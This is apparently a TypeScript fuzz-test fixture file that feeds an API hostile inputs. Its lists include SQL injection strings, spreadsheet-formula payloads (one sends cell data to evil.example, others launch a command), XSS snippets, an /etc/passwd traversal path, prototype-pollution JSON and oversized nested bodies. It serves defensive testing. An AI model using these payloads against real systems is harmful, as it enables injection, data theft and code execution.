/**
 * What the fuzz test throws at the API: hostile values (wrong types, huge and NaN-ish
 * numbers, SQL and spreadsheet-formula payloads, unicode tricks, deep nesting, huge
 * arrays) and raw payloads JSON.stringify cannot make (invalid JSON, huge number
 * literals, duplicate and __proto__ keys, NUL bytes, broken UTF-8). Values come from
 * fast-check arbitraries, so a seed replays the same run exactly.
 */
import fc from 'fast-check';

/** Strings a text field may hold that mean harm elsewhere: SQL, CSV formulas, markup, unicode. */
export const HOSTILE_TEXT: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE count_events; --",
  '1; DELETE FROM stock_lines',
  "x' UNION SELECT password_hash FROM users --",
  '$1',
  '%s%s%s%n',
  '\\',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '0x1F',
  '1_000',
  '١٢٣', // Arabic-Indic digits
  '１２３', // full-width digits
  '12,5',
  ' 12 ',
  '9'.repeat(40),
  '0.' + '0'.repeat(38) + '1',
  '\u202Eevil\u202C', // right-to-left override
  'a\u0000b',
  '\u0000',
  '\uFEFFbom',
  '\uD800', // lone surrogate
  'e\u0301', // combining accent
  '👨‍👩‍👧‍👦',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '',
  ' ',
  '\u00A0',
  'x'.repeat(5000),
];

/** Numbers (and number-like) a field may be sent: huge, negative, fractional, unsafe. */
const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -1,
  -0,
  0.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER,
  2147483648,
  4.9e-324,
  123456789.123456,
];

/** Nested arrays/objects `depth` deep, as a value (stringified, they test the parser too). */
export function nested(depth: number, kind: 'array' | 'object'): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v };
  return v;
}

const leaf: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT),
  fc.constantFrom(...HOSTILE_NUMBERS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.double(),
  fc.integer(),
  fc.bigInt().map((b) => b.toString()),
  fc.boolean(),
  fc.constant(null),
);

/** Any hostile JSON value: a leaf, a small structure of them, a deep nest, a huge array. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: leaf, weight: 12 },
  { arbitrary: fc.array(leaf, { maxLength: 5 }), weight: 2 },
  { arbitrary: fc.dictionary(fc.string({ maxLength: 10 }), leaf, { maxKeys: 4 }), weight: 2 },
  { arbitrary: fc.constantFrom(nested(200, 'array'), nested(200, 'object'), nested(2000, 'array')), weight: 1 },
  {
    arbitrary: fc.constantFrom(
      Array.from({ length: 20_000 }, () => 0),
      Array.from({ length: 6000 }, () => ({})),
    ),
    weight: 1,
  },
);

/** Raw request bodies: not JSON, or JSON the default parsers would mishandle. */
export const RAW_PAYLOADS: readonly string[] = [
  '{',
  '{"a":}',
  '[1,2,',
  'undefined',
  'NaN',
  "{'single':'quotes'}",
  '{"a":1}garbage',
  '{"a":1,"a":2}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '1' + '0'.repeat(400),
  '-1e999999',
  '\uFEFF{}',
  '{"a":"\u0000"}',
  '\u0000',
  '"just a string"',
  'true',
  'null',
  '[]',
  '{}',
  '['.repeat(100_000) + ']'.repeat(100_000),
  '{"a":'.repeat(20_000) + '1' + '}'.repeat(20_000),
  '{"a":"\\ud800"}',
  ' ',
];

/** Bytes that are not UTF-8 at all. */
export const BROKEN_UTF8 = Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]);

export const CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=latin1',
  'application/zip',
  'application/octet-stream',
  'application/jsonx',
];

/** Path parameters that are not ids. */
export const HOSTILE_IDS: readonly string[] = [
  '0',
  '-1',
  '1.5',
  '1e3',
  '0x10',
  '99999999999999999999',
  '2147483648',
  '1%20OR%201%3D1',
  "1'%3B--",
  '%00',
  '%D9%A1', // Arabic-Indic 1
  'NaN',
  '%2e%2e%2f',
  'null',
];

/** Query strings that a route must refuse. */
export const HOSTILE_QUERIES: readonly string[] = [
  'after=-1',
  'after=abc',
  'after=1e3',
  'limit=0',
  'limit=99999999',
  'limit=NaN',
  'deviceId=%00',
  "deviceId=x'%3B--",
  'deviceId=' + 'd'.repeat(100),
  'locationId=0',
  'locationId=1%20OR%201%3D1',
  'locationId=1&locationId=2',
  'unknown=1',
  '__proto__[admin]=1',
  'after=1&after=2',
];
